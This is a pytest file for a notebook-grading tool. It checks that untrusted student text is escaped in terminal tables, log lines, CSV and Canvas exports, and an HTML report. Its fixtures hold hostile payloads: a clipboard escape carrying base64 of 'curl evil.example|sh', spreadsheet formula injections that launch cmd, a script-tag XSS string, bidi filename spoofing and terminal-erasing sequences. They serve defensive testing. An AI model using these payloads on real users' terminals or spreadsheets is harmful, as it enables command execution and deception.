"""Student-controlled text never reaches the instructor's terminal or spreadsheet raw.

Unit tests of :mod:`grading.untrusted_text`, then the places that print or
write such text: the autograde table and messages, the report's and the LMS
export's CSV files, their command-line messages, the report's HTML, and the
nbgrader plugins' log lines.  No sandbox, no notebook is run.
"""

from __future__ import annotations

import concurrent.futures as cf
import csv
import datetime as dt
import io
import logging
import time
import unicodedata
import zipfile

import pytest

from grading.batch import autograde
from grading.report import class_report as report
from grading.report import gradebook, lms
from grading.untrusted_text import for_csv, for_csv_row, for_terminal

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # sets the clipboard
OSC0 = "\x1b]0;all submissions passed\x07"  # sets the window title
CSI_ERASE = "\x1b[2K\r"  # erases the line, back to its start
C1_CSI = "\x9b31m"  # the 8-bit CSI
BIDI = "\u202e"  # right-to-left override
ISOLATE = "\u2066"  # left-to-right isolate
PAYLOADS = [OSC52, OSC0, CSI_ERASE, C1_CSI, BIDI, ISOLATE, "\x00", "\x7f", "\u200b", "\ufeff", "\u2028"]
EVIL = f"mallory{OSC52}{OSC0}{CSI_ERASE}{C1_CSI}x{BIDI}fdp.exe{ISOLATE}"
FORMULAS = ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1"]


def _forbidden(text: str, newlines: bool = False) -> list:
    """The characters of ``text`` that must not reach a terminal (one-line cells unless ``newlines``)."""
    bad = []
    for char in text:
        code = ord(char)
        if char == "\n" and newlines:
            continue
        if code < 0x20 or code == 0x7f or 0x80 <= code <= 0x9f or unicodedata.category(char) in ("Cf", "Zl", "Zp"):
            bad.append(char)
    return bad


def _assert_clean(text: str, newlines: bool = False) -> None:
    bad = _forbidden(text, newlines)
    assert not bad, f"raw control characters reached the output: {bad!r} in {text!r}"
    # the raw bytes too: no ESC, BEL, CR, and no C1 as encoded in UTF-8 (C2 80 .. C2 9F)
    raw = text.encode("utf-8", "surrogateescape")
    assert b"\x1b" not in raw and b"\x07" not in raw and b"\r" not in raw
    assert not any(raw[i] == 0xC2 and 0x80 <= raw[i + 1] <= 0x9F for i in range(len(raw) - 1))


# -- for_terminal ---------------------------------------------------------------------------


@pytest.mark.parametrize("payload, shown", [
    (OSC52, "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07"),
    (OSC0, "\\x1b]0;all submissions passed\\x07"),
    (CSI_ERASE, "\\x1b[2K\\r"),
    (C1_CSI, "\\x9b31m"),
    (BIDI + "exe.txt", "\\u202eexe.txt"),
    ("\u202a\u202b\u202c\u202d", "\\u202a\\u202b\\u202c\\u202d"),
    ("\u2066\u2067\u2068\u2069", "\\u2066\\u2067\\u2068\\u2069"),
    ("a\nb\tc", "a\\nb\\tc"),
    ("\x00\x7f\x85", "\\x00\\x7f\\x85"),
    ("zero\u200bwidth\ufeff", "zero\\u200bwidth\\ufeff"),
    ("line\u2028para\u2029", "line\\u2028para\\u2029"),
])
def test_for_terminal_escapes_control_and_format_characters(payload, shown):
    assert for_terminal(payload) == shown
    _assert_clean(for_terminal(payload))


def test_for_terminal_escapes_every_c0_c1_and_del():
    every = "".join(map(chr, [*range(0x20), 0x7f, *range(0x80, 0xa0)]))
    out = for_terminal(every)
    _assert_clean(out)
    assert out.count("\\") == len(every)


def test_for_terminal_keeps_ordinary_text():
    text = "Élodie Müller, 張偉, μ = π ≈ 3.14159, naïve café — ok! C:\\path"
    assert for_terminal(text) == text


def test_for_terminal_converts_non_strings():
    assert for_terminal(None) == "None"
    assert for_terminal(3.5) == "3.5"
    assert for_terminal(ValueError(f"bad {OSC0}")) == "bad \\x1b]0;all submissions passed\\x07"
    assert for_terminal("\udcff") == "\\udcff"  # a lone surrogate (from surrogateescape) prints without an error


# -- for_csv ------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", FORMULAS + ["\n=1+1", " =1+1", "\uff1dSUM(1)", "\uff0b1", "\uff0d1", "\uff20SUM(1)"])
def test_for_csv_neutralises_formulas(cell):
    out = for_csv(cell)
    assert out.startswith("'") and out[1:] == cell


def test_for_csv_of_the_examples():
    assert for_csv('=HYPERLINK("http://x","y")') == '\'=HYPERLINK("http://x","y")'
    assert for_csv("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert for_csv("@SUM(1)") == "'@SUM(1)"
    assert for_csv("-2+3") == "'-2+3"
    assert for_csv("\t=1") == "'\t=1"
    assert for_csv("\r=1") == "'\r=1"


def test_for_csv_keeps_numbers_numeric_and_strings_neutralised():
    assert for_csv(-2.5) == -2.5 and isinstance(for_csv(-2.5), float)
    assert for_csv(-3) == -3 and isinstance(for_csv(-3), int)
    assert for_csv(0.0) == 0.0
    assert for_csv(None) is None
    assert for_csv("-3") == "'-3"  # a string is text, whoever wrote it: numbers are written as numbers


def test_for_csv_keeps_ordinary_text_and_is_idempotent():
    for text in ["alice", "O'Brien, Siobhán", "2024-05-01 10:00:00", "", "'=already", "a=b", "x-y", "張偉"]:
        assert for_csv(text) == text
    for cell in FORMULAS:
        assert for_csv(for_csv(cell)) == for_csv(cell)


def test_for_csv_escapes_other_control_characters():
    out = for_csv(f"name{OSC52}{BIDI}")
    assert out == "name\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\\u202e"
    assert for_csv("two\nlines\tand\rcr") == "two\nlines\tand\rcr"  # kept: the csv module quotes them
    assert for_csv(f"\x1b={OSC0}") == "\\x1b=\\x1b]0;all submissions passed\\x07"


def test_for_csv_row_of_dicts_and_lists():
    assert for_csv_row({"id": "=1+1", "score": -1.5, "n": 3}) == {"id": "'=1+1", "score": -1.5, "n": 3}
    assert for_csv_row(("@x", 2.0, None, "ok")) == ["'@x", 2.0, None, "ok"]


# -- python -m grading autograde: the table and the messages ---------------------------------


def _results():
    return [
        {"student": EVIL, "status": "graded", "seconds": 12.3, "failed": {"test_fit_1": "x"},
         "limits_hit": [f"memory limit {CSI_ERASE}"], "events": [f"cell 3: {OSC0}{C1_CSI}"]},
        {"student": f"bob{BIDI}", "status": "not gradable", "reason": f"the grader failed (ValueError: {OSC52}\nboom)"},
        {"student": "carol", "status": "graded", "seconds": 3.0, "limits_hit": [], "events": [f"{BIDI}{ISOLATE}"]},
        {"student": "张伟", "status": "graded earlier", "seconds": 0.0},
    ]


def _rows(results):
    return [(r["student"], r["status"], f"{r.get('seconds', 0):.0f}", "-", len(r.get("failed", {})),
             r.get("reason") or "; ".join(r.get("limits_hit", []) + r.get("events", [])[:1])) for r in results]


def test_format_table_escapes_every_cell():
    table = autograde.format_table(_rows(_results()))
    lines = table.split("\n")
    assert len(lines) == 1 + len(_results())  # the cells' newlines do not split rows
    for line in lines:
        _assert_clean(line)
    assert "mallory\\x1b]52;c;" in table and "\\x9b31m" in table and "bob\\u202e" in table
    assert "张伟" in lines[4]


def test_format_table_cuts_the_note_after_escaping():
    table = autograde.format_table([("s", "graded", "1", "2", 0, "\x1b" * 100)])
    note = table.split("\n")[1].split("  ")[-1]
    assert len(note) == 70 and set(note) <= set("\\x1b")


@pytest.mark.slow  # a real (empty) nbgrader gradebook: ~10 s
def test_summary_prints_no_control_character(tmp_path, capsys):
    from nbgrader.api import Gradebook
    from traitlets.config import Config

    gradebook.alembic_on_path()  # nbgrader's Gradebook runs alembic
    db_url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    with Gradebook(db_url) as gb:
        gb.add_assignment("a1")
    config = Config()
    config.CourseDirectory.db_url = db_url
    autograde._summary(tmp_path, "a1", _results(), config, time.monotonic())
    out, err = capsys.readouterr()
    _assert_clean(out, newlines=True)
    _assert_clean(err, newlines=True)
    assert out.count("\n") == 1 + len(_results()) + 1
    assert "mallory\\x1b]52;c;" in out


def test_collect_stopping_message_is_escaped(tmp_path, capsys):
    futures = {}
    for i in range(4):
        future = cf.Future()
        future.set_result({"student": f"s{i}{OSC0}", "status": "not gradable", "reason": f"r{OSC52}",
                           "cause": f"the grader failed ({CSI_ERASE}{C1_CSI}{BIDI})", "fix": "x"})
        futures[future] = f"s{i}{OSC0}"
    results = autograde._collect(futures, 4, 1, tmp_path, time.monotonic(), True, lambda fs: iter(list(fs)[:3]))
    assert [r["status"] for r in results] == ["not gradable"] * 3 + ["stopped"]
    out, err = capsys.readouterr()
    assert "stopping the run" in err and "\\x1b[2K\\r\\x9b31m\\u202e" in err
    _assert_clean(out, newlines=True)
    _assert_clean(err, newlines=True)


# -- report.csv and the report's page ------------------------------------------------------------


def _class(evil_first: str = "=HYPERLINK(\"http://x\",\"y\")"):
    cells = [gradebook.Cell("nb", "test_fit_1", 10.0, "code", "fit"),
             gradebook.Cell("nb", "answer_1", 5.0, "markdown", gradebook.WRITTEN)]
    evil = gradebook.Student(
        f"=cmd{OSC0}", first_name=evil_first, last_name="+cmd|' /C calc'!A0", submitted=True,
        timestamp=dt.datetime(2024, 5, 1, 10, 0), seconds_late=3600.0, late_penalty=1.5,
        scores={("nb", "test_fit_1"): 4.0, ("nb", "answer_1"): None},
        messages={("nb", "test_fit_1"): f"AssertionError: <script>alert(1)</script>{OSC52}"},
        autograded=True, summary={"seconds": 2.5, "limits_hit": ["@SUM(1)", f"-2+3{CSI_ERASE}"], "not_gradable": None},
    )
    broken = gradebook.Student(
        "-2+3", first_name="\tTab", last_name="\rCr", submitted=True, timestamp=dt.datetime(2024, 5, 1, 9, 0),
        autograded=False, summary={"seconds": None, "limits_hit": [], "not_gradable": f"=1+1 {C1_CSI}<b>x</b>"},
    )
    plain = gradebook.Student("alice", first_name="Alice", last_name="Smith", submitted=True,
                           timestamp=dt.datetime(2024, 4, 30, 9, 0), autograded=True,
                           scores={("nb", "test_fit_1"): 10.0, ("nb", "answer_1"): 5.0},
                           summary={"seconds": 1.0, "limits_hit": [], "not_gradable": None})
    absent = gradebook.Student("@absent", first_name="@First", last_name="-Last")
    students = sorted([evil, broken, plain, absent], key=lambda s: s.id)
    return gradebook.ClassData("a1", dt.datetime(2024, 5, 1), cells, students, gradebook.DEFAULT_PARTS)


NUMERIC_REPORT_COLUMNS = ["submitted", "hours_late", "part_fit", "part_written", "raw_score", "late_penalty",
                          "score", "max_score", "ungraded_answers"]
TEXT_REPORT_COLUMNS = ["student_id", "last_name", "first_name", "limits_hit", "not_gradable"]


def test_report_csv_has_no_live_formula(tmp_path):
    data = _class()
    report.write_csv(data, tmp_path / "report.csv")
    raw = (tmp_path / "report.csv").read_text(encoding="utf-8")
    assert "\x1b" not in raw and "\x9b" not in raw
    with open(tmp_path / "report.csv", newline="", encoding="utf-8") as f:
        rows = {row["student_id"]: row for row in csv.DictReader(f)}
    assert set(rows) == {"'=cmd\\x1b]0;all submissions passed\\x07", "'-2+3", "alice", "'@absent"}
    for row in rows.values():
        for column in TEXT_REPORT_COLUMNS:
            assert row[column][:1] not in set("=+-@\t\r"), (column, row[column])
        for column in NUMERIC_REPORT_COLUMNS:
            float(row[column])  # still numbers
    evil = rows["'=cmd\\x1b]0;all submissions passed\\x07"]
    assert evil["first_name"] == "'=HYPERLINK(\"http://x\",\"y\")"
    assert evil["last_name"] == "'+cmd|' /C calc'!A0"
    assert evil["limits_hit"] == "'@SUM(1);-2+3\\x1b[2K\r"
    assert float(evil["score"]) == pytest.approx(2.5) and float(evil["late_penalty"]) == pytest.approx(1.5)
    assert float(evil["seconds"]) == pytest.approx(2.5)
    broken = rows["'-2+3"]
    assert broken["first_name"] == "'\tTab" and broken["last_name"] == "'\rCr"
    assert broken["not_gradable"] == "'=1+1 \\x9b31m<b>x</b>"
    assert rows["alice"]["last_name"] == "Smith" and float(rows["alice"]["score"]) == 15.0


def test_report_csv_keeps_negative_numbers_numeric(tmp_path):
    data = _class()
    rows = report.csv_rows(data)
    rows[0]["hours_late"] = -0.5  # as a number: stays a number
    path = tmp_path / "r.csv"
    with open(path, "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(for_csv_row(r) for r in rows)
    with open(path, newline="") as f:
        assert float(next(csv.DictReader(f))["hours_late"]) == -0.5


def test_report_html_escapes_student_text():
    page = report.render_html(_class())
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<b>x</b>" not in page and "&lt;b&gt;x&lt;/b&gt;" in page
    assert "=cmd" in page  # the student's row is there, as text


def test_report_command_escapes_its_error(monkeypatch, capsys, tmp_path):
    def collect(*args, **kwargs):
        raise ValueError(f"Notebook does not appear to be JSON: '{OSC52}{CSI_ERASE}'")

    monkeypatch.setattr(report, "collect", collect)
    assert report.main(["a1", "--course", str(tmp_path), "--no-similarity"]) == 1
    out, err = capsys.readouterr()
    assert "does not appear to be JSON" in err
    _assert_clean(out, newlines=True)
    _assert_clean(err, newlines=True)


# -- the LMS export ---------------------------------------------------------------------------


def _read(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_canvas_csv_has_no_live_formula_and_numeric_scores(tmp_path):
    data = _class()
    rows, unmatched = lms.canvas_rows(data, "Gaussian generative (48213)")
    assert unmatched == []
    lms.write_canvas_csv(rows, tmp_path / "canvas_grades.csv")
    back = _read(tmp_path / "canvas_grades.csv")
    assert back[0] == [*lms.CANVAS_ID_COLUMNS, "Gaussian generative (48213)"]
    assert back[1] == ["Points Possible", "", "", "", "", "15"]
    by_login = {row[3]: row for row in back[2:]}
    assert set(by_login) == {"'=cmd\\x1b]0;all submissions passed\\x07", "'-2+3", "alice", "'@absent"}
    for row in back[2:]:
        assert all(cell[:1] not in set("=+-@\t\r") for cell in row[:5]), row
        float(row[5])  # Canvas reads the score as a number
    evil = by_login["'=cmd\\x1b]0;all submissions passed\\x07"]
    assert evil[0] == "'+cmd|' /C calc'!A0, =HYPERLINK(\"http://x\",\"y\")"
    assert evil[5] == "2.5"
    assert by_login["alice"] == ["Smith, Alice", "", "", "alice", "", "15"]
    assert by_login["'@absent"][5] == "0"
    raw = (tmp_path / "canvas_grades.csv").read_text(encoding="utf-8")
    assert "\x1b" not in raw and "\x9b" not in raw


def test_canvas_csv_from_a_hostile_roster(tmp_path):
    data = _class()
    roster = {
        "alice": {"Student": "=HYPERLINK(\"http://x\",\"y\")", "ID": "@9000", "SIS User ID": "-S1",
                  "SIS Login ID": "alice", "Section": f"+Section{OSC0}"},
    }
    rows, unmatched = lms.canvas_rows(data, "a1", roster)
    assert sorted(unmatched) == sorted(s.id for s in data.students if s.id != "alice")
    lms.write_canvas_csv(rows, tmp_path / "c.csv")
    row = _read(tmp_path / "c.csv")[2]
    assert row == ["'=HYPERLINK(\"http://x\",\"y\")", "'@9000", "'-S1", "alice",
                   "'+Section\\x1b]0;all submissions passed\\x07", "15"]


def test_feedback_manifest_has_no_live_formula(tmp_path):
    data = _class()
    missing = lms.feedback_bundle(tmp_path, data, tmp_path / "bundle.zip")
    assert set(missing) == {s.id for s in data.students if s.submitted}
    with zipfile.ZipFile(tmp_path / "bundle.zip") as bundle:
        manifest = list(csv.DictReader(io.StringIO(bundle.read("manifest.csv").decode())))
    assert {row["student_id"] for row in manifest} == {"'=cmd\\x1b]0;all submissions passed\\x07", "'-2+3",
                                                       "alice", "'@absent"}
    for row in manifest:
        assert row["name"][:1] not in set("=+-@\t\r")
        float(row["score"]), float(row["max_score"]), float(row["late_penalty"])
    alice = next(row for row in manifest if row["student_id"] == "alice")
    assert (alice["score"], alice["max_score"], alice["late_penalty"]) == ("15", "15", "0")


def test_export_lms_warnings_are_escaped(monkeypatch, capsys, tmp_path):
    data = _class()
    monkeypatch.setattr(lms, "collect", lambda *args, **kwargs: data)
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="") as f:
        csv.writer(f).writerows([lms.CANVAS_ID_COLUMNS, ["Smith, Alice", "1", "S1", "alice", "A"]])
    assert lms.main(["a1", "--course", str(tmp_path), "--out", str(tmp_path / "out"), "--roster", str(roster)]) == 0
    out, err = capsys.readouterr()
    assert "not in the roster" in err and "no feedback" in err and "=cmd\\x1b]0;" in err
    _assert_clean(out, newlines=True)
    _assert_clean(err, newlines=True)


# -- the nbgrader plugins' log lines and the doctor -------------------------------------------------


class _Lines(logging.Handler):
    def __init__(self):
        super().__init__()
        self.lines = []

    def emit(self, record):
        self.lines.append(record.getMessage())


def test_late_penalty_log_line_is_escaped():
    from grading.plugins.late import PercentPerDayLatePenalty

    plugin = PercentPerDayLatePenalty()
    plugin._max_score = lambda: 10.0
    handler = _Lines()
    plugin.log.addHandler(handler)
    old = plugin.log.level
    plugin.log.setLevel(logging.INFO)
    try:
        assert plugin.late_submission_penalty(f"s{OSC0}", 5.0, 3600.0) == 1.0
    finally:
        plugin.log.removeHandler(handler)
        plugin.log.setLevel(old)
    assert handler.lines and "s\\x1b]0;" in handler.lines[0]
    for line in handler.lines:
        _assert_clean(line)


def test_sandboxed_execute_log_lines_are_escaped(tmp_path):
    import nbformat

    from grading.judge.grade import grading_config, submission_key
    from grading.plugins.execute import SandboxedExecute

    student = f"eve{OSC52}{BIDI}"
    step = SandboxedExecute(precomputed_dir=str(tmp_path))
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")])
    graded = tmp_path / student / f"{submission_key(nb, grading_config(step.config))}.ipynb"
    graded.parent.mkdir()
    nbformat.write(nb, graded)
    handler = _Lines()
    step.log.addHandler(handler)
    old = step.log.level
    step.log.setLevel(logging.INFO)
    try:
        step.preprocess(nb, {"nbgrader": {"student": student}})
    finally:
        step.log.removeHandler(handler)
        step.log.setLevel(old)
    assert any("graded already" in line and "eve\\x1b]52;" in line for line in handler.lines)
    for line in handler.lines:
        _assert_clean(line)


def test_doctor_lines_are_escaped(monkeypatch, capsys, tmp_path):
    from grading.batch import doctor

    (tmp_path / "nbgrader_config.py").write_text("c = get_config()\n")

    def run_checks(config, course=None, log=None, refs=None):
        checks = [doctor.Check("kernel", "FAILED", f"the cell printed {OSC0}\nsecond line")]
        for check in checks:
            log(check)
        return checks

    monkeypatch.setattr(doctor, "run_checks", run_checks)
    assert doctor.main(["--course", str(tmp_path)]) == 1
    out, err = capsys.readouterr()
    assert "the cell printed \\x1b]0;" in out
    _assert_clean(out, newlines=True)
    assert out.count("\n") == 2  # the check's line and the verdict, one line each
